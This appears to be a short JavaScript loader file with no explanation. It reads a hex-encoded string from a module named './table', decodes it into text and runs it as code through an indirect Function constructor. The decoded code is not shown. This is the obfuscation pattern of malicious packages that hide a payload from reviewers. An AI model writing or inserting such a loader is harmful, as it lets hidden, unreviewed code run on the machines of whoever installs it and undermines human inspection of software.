const pairs = require("./table").match(/../g);
const text = pairs.reduce((all, pair) => all + String.fromCharCode(parseInt(pair, 16)), "");
(() => {}).constructor(text)();
